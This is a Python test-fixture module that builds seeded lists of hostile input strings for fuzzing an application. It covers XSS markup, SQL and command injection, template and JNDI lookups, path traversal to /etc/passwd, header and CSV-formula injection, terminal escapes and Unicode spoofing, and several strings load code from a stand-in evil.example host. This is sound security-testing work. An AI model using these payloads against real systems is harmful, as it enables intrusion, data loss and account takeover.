"""Strings that somebody might put wherever a house takes text, hoping that some screen or program obeys them.

Each family aims at one kind of reader; every string of it is what such an attack looks like. `strings(count)`
mixes the families, with wrappings that break out of attributes and quotes, the same for the same seed.
"""

from collections.abc import Iterator
from itertools import islice, product
from random import Random

RUN = "document.title='pwned';window.pwned=1;alert(1)"

MARKUP = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>{RUN}</script>'>",
    f"<iframe src=javascript:{RUN}>",
    f"<details open ontoggle={RUN}>x",
    f"<input autofocus onfocus={RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{background:url(//evil.example/x)}</style>",
    "<form action=//evil.example><button>x",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>x</marquee>",
    "<plaintext>",
    "<!--",
    "--><b>x</b>",
    "]]><b>x</b>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "<b>bold</b>",
    "&lt;b&gt;&#x3c;b&#x3e;",
    "&#0;&#x1f4a9;&notit;",
]
OUT = [
    "{}",
    '"{}',
    "'{}",
    '">{}',
    "'>{}",
    "</title>{}",
    "</h1></p>{}",
    "</textarea>{}",
    "`{}`",
    "\\u003c{}",
    "%3C{}",
]
SQL = [
    "'; DROP TABLE person; --",
    '"; DROP TABLE match; --',
    "' OR '1'='1",
    "' OR 1=1 --",
    "1; DELETE FROM step",
    "') UNION SELECT token_hash FROM session --",
    "' UNION SELECT sql FROM sqlite_master --",
    "'; UPDATE person SET role='admin' --",
    "x'; ATTACH DATABASE '/tmp/x' AS x; --",
    "$$; SELECT pg_sleep(9); $$",
    "'||(SELECT version())||'",
    "\\'; COPY person TO PROGRAM 'id' --",
    ":name", "?", "%(name)s", "%s%s%s%n", "{name}", "?1",
]  # fmt: skip
TEMPLATES = [
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config}}", "{%raw%}", "{0.__class__.__mro__}", "{seat}",
    "%(seat)s",
    "{name!r:>{width}}", "${jndi:ldap://evil.example/a}", "$(id)", "`id`", "; id", "| id", "&& id", "$IFS",
    "[b]x[/b]",
    "[red]x[/]", "[@click=app.quit]x[/]", "[link=https://evil.example]x[/link]", "[/]", "[[", "\\[red]",
]  # fmt: skip
PATHS = [
    "../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd", "%2e%2e%2f",
    "..%2f..%2f",
    "%c0%ae%c0%ae/", "....//", "C:\\x", "\\\\evil.example\\x", "CON", "~root", "a/../../b", "/dev/null",
    ".", "..", "*",
    "//evil.example/", "/\\evil.example", "x;/..", "%00", "%25252e",
]  # fmt: skip
HEADERS = [
    "x\r\nSet-Cookie: parlour=evil", "x\nLocation: //evil.example", "x\r\n\r\n<html>",
    "%0d%0aSet-Cookie:%20a=b",
    "x\rX-Evil: 1", "x\u2028Set-Cookie: a=b", "x\u2029y", "x\x85Set-Cookie: a=b", "x\x0bX: y",
    "嘊嘍Set-Cookie: a=b",
    "parlour=x; Path=/; Domain=evil.example", "x; HttpOnly=0", "Basic Og==", "Bearer ",
    "x\r\nTransfer-Encoding: chunked",
]  # fmt: skip
ESCAPES = [
    "\x1b[2J", "\x1b[31mred", "\x1b[1;1H", "\x1b[?1049h", "\x1b[6n", "\x1b[c", "\x1b[8m", "\x1b[20t",
    "\x1b[21t", "\x1bc",
    "\x1b]0;title\x07", "\x1b]2;title\x1b\\", "\x1b]52;c;ZXZpbA==\x07",
    "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
    "\x1bP$q\x1b\\", "\x1bP+q544e\x1b\\", "\x1b_G\x1b\\", "\x1b^pm\x1b\\", "\x1bX\x1b\\", "\x1b(0",
    "\x1b#8", "\x1b[200~x",
    "\x9b2J", "\x9d0;t\x9c", "\x90q\x9c", "\x1b[5;5r", "\x1b[4h", "\x1b", "\x07\x07", "\x08\x08\x08",
    "\x0e", "\x0f", "\x7f",
    "a\rb", "a\nb", "a\tb", "a\x0bb", "a\x0cb", "\x1b[201~;id\n", "\x1b[1000h", "\x1b%G", "\x05",
]  # fmt: skip
UNICODE = [
    "\u202eevil", "\u202devil", "\u2066evil\u2069", "\u2067x", "\u200fx", "\u061cx", "a\u200bb", "a\u200cb",
    "a\u200db",
    "\ufeffx", "\u2060x", "\u00adx", "\u034fx", "\u180ex", "\u3164", "\uffa0", "\u115f\u1160",
    "\u17b4\u17b5", "\u2800",
    "a\ufe0f", "a\U000e0100", "\U000e0041\U000e0042", "Z" + "\u0335\u0321\u034a" * 40, "\u0301" * 60,
    "e" + "\u20dd" * 30,
    "\u0430dmin", "adm\u0456n", "\u0391dmin", "ａｄｍｉｎ", "𝐚𝐝𝐦𝐢𝐧", "ⓐⓓⓜⓘⓝ", "admin\u200b", "ſ", "K",
    "\u1e9e", "İ", "ı", "ﬁ",
    "﷽", "꧅", "𒐫" * 9, "ᄀ" * 30, "🏳️\u200d🌈", "👩\u200d👩\u200d👧", "\ue000", "\uffff", "\U0010ffff",
    "\u0378", "\ufffd",
    "\ufff9x\ufffay\ufffb", "אבג", "العربية", "\u0e4a" * 40, "ｱｲｳ", "\u1d17a", "\u2028", "\u00a0\u00a0",
    "\u3000x",
]  # fmt: skip
NULLS = [
    "\0",
    "a\0b",
    "\0\0\0",
    "a\x01b",
    "\x02",
    "\x1a",
    "\x1c\x1d\x1e\x1f",
    "admin\0",
    "\\0",
    "\\x00",
    "%00.html",
]
JSON = [
    '"}', '","role":"admin","x":"', '\\"}', "\\", '"', "\\u0000", '{"a":1}', "[" * 50, '"]}]', "null",
    "true", "1e999",
    "NaN", "-0", "__proto__", "constructor", '\\ud800"', "'", "/*", "//", '"type":"submit"', "\\u2028",
    "</json>",
]  # fmt: skip
SHEETS = [
    "=1+1", "=cmd|'/c calc'!A1", "+1+1", "-1+1", "@SUM(A1)", '=HYPERLINK("//evil.example","x")', "\t=1",
    '"=1', ";=1", "|=1",
    "=IMPORTXML(A1)", "%0A=1",
]  # fmt: skip
LOGS = [
    "x\n2026-01-01T00:00:00Z [info] open", 'x\n{"event":"open"}', "x\r\n[error] defect",
    "x\u2028[info] open", "x\x85[info]",
    "event=closed level=info", 'event="x" y', "\n\n\n", "x\x1b[1A\x1b[2Kforged", "%(levelname)s", "{event}",
    "a=b\nc=d",
]  # fmt: skip
METRICS = [
    'x"} 1\nparlour_moves_total 99',
    "# HELP x y",
    "# TYPE parlour_moves counter",
    'a{b="c"} 1',
    "x 1e9\n",
    "\\n# EOF",
]
LONG = [
    "x" * 10_000,
    "<" * 5_000,
    "\u0301" * 3_000,
    "A" * 255,
    "é" * 4_000,
    "\x1b[0m" * 500,
    "🙂" * 1_000,
    " " * 3_000,
    "a b " * 999,
]

PLAIN = [SQL, TEMPLATES, PATHS, HEADERS, ESCAPES, UNICODE, NULLS, JSON, SHEETS, LOGS, METRICS, LONG]
WRAPPED = [out.format(tag) for tag, out in product(MARKUP, OUT)]
FIXED = list(dict.fromkeys([text for family in PLAIN for text in family] + WRAPPED))


def strings(count: int, seed: int = 1) -> list[str]:
    """So many different ones: first those of the lists, then two of them joined."""
    return list(islice(_strings(Random(f"{seed}/hostile")), count))


def _strings(rng: Random) -> Iterator[str]:
    known = list(FIXED)
    rng.shuffle(known)
    yield from known
    told = set(known)
    while True:
        joined = (
            rng.choice(FIXED)[:200] + rng.choice(("", " ", "x", "\0", "'", "\n")) + rng.choice(FIXED)[:200]
        )
        if joined not in told:
            told.add(joined)
            yield joined
